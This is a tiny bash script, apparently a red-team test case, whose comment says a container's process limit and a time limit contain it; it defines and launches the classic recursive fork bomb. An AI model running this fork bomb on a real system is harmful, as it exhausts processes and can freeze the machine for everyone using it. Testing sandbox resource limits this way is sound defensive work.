# The classic bash fork bomb. PidsLimit caps it; the wall clock ends it.
echo "REDTEAM fork bomb"
bomb() { bomb | bomb & }
bomb
sleep 60
